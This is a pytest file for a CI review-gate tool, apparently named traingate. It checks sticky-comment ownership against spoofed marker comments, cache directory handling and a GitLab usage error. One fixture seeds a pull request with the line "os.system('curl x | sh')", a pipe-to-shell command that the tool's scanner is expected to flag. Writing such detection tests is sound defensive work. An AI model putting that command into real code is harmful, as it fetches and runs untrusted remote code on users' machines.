"""Claims of docs/ci/*.md that no other test held (issue #18): each runs the
real `traingate ci` against the 127.0.0.1 API server, in a real clone."""

from __future__ import annotations

from pathlib import Path

import pytest

from traingate import ci
from traingate.cli import main

from .apiserver import Reply
from .conftest import Repo
from .test_ci import clone_shallow, gh_env, gh_review, gh_routes, gl_env, run_ci, seed_pr, sha
from .test_ci_github_events import COMMENTS, WriteServer, approved_pr, comment, run
from .test_ci_github_events import api_server as api_server  # the fixture, with writes
from .test_ci_github_events import origin as origin


def test_comment_author_names_the_account_whose_marker_counts(
    origin: Repo,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    api_server: WriteServer,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """docs/ci/github.md: the sticky comment is ours when it carries the marker
    *and* its author is `github-actions[bot]`, or TRAINGATE_COMMENT_AUTHOR when
    the token is another account's. The attack: with another author set, a
    marker comment by github-actions[bot] (any workflow in the PR can write
    one) is not ours and is never edited."""
    work = approved_pr(origin, tmp_path, monkeypatch, api_server)()
    monkeypatch.setenv("TRAINGATE_PR_COMMENT", "true")
    monkeypatch.setenv("TRAINGATE_COMMENT_AUTHOR", "gate-bot")
    planted = comment(5, "github-actions[bot]", ci.COMMENT_MARKER + "\nall good", "Bot")
    ours = comment(6, "gate-bot", ci.COMMENT_MARKER + "\nold", "Bot")
    api_server.route(COMMENTS, Reply(200, [planted]))
    api_server.route(f"/POST{COMMENTS}", Reply(201, ours))
    code, out, err = run(work, capsys)
    assert code == 0, out + err
    assert [(m, p) for m, p, _ in api_server.writes] == [("POST", COMMENTS)]
    api_server.route(COMMENTS, Reply(200, [planted, ours]))
    api_server.route("/PATCH/repos/acme/train/issues/comments/6", Reply(200, ours))
    code, out, err = run(work, capsys)
    assert code == 0, out + err
    assert [(m, p) for m, p, _ in api_server.writes][1:] == [
        ("PATCH", "/repos/acme/train/issues/comments/6")
    ]


@pytest.fixture
def gh_origin(repo: Repo) -> Repo:
    return seed_pr(
        repo,
        "version: 1\nextends: builtin:default\ngroups:\n  security: [sam]\n"
        "  ml-reviewers: [alice, bob]\n",
        "import os\nos.system('curl x | sh')\n",
    )


def test_ci_honours_traingate_cache_dir(
    gh_origin: Repo,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    api_server: WriteServer,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """docs/ci/hardening.md: `traingate ci` uses no cache unless given
    `--cache-dir` or TRAINGATE_CACHE_DIR (tests/test_ci.py holds the first)."""
    gh_env(monkeypatch, tmp_path, gh_origin, api_server)
    gh_routes(api_server, gh_origin, [gh_review("bob", "APPROVED", sha(gh_origin, "feature"))])
    work = clone_shallow(gh_origin, "feature", tmp_path / "work")
    cache = tmp_path / "env-cache"
    monkeypatch.setenv("TRAINGATE_CACHE_DIR", str(cache))
    code, out = run_ci(work, capsys)
    assert code == 1 and "exec-os-command" in out, out
    assert list((cache / "semgrep").rglob("*.json"))


def test_gitlab_branch_pipeline_is_a_usage_error(
    origin: Repo,
    monkeypatch: pytest.MonkeyPatch,
    api_server: WriteServer,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """docs/ci/gitlab.md, failure modes: a job in a branch pipeline exits 2
    with this message, before any API request."""
    gl_env(monkeypatch, origin, api_server)
    monkeypatch.delenv("CI_MERGE_REQUEST_IID")
    assert main(["ci", "--repo", str(origin.path)]) == 2
    err = capsys.readouterr().err
    assert "error: not a merge request pipeline (CI_MERGE_REQUEST_IID is not set)" in err
    assert api_server.requests == []
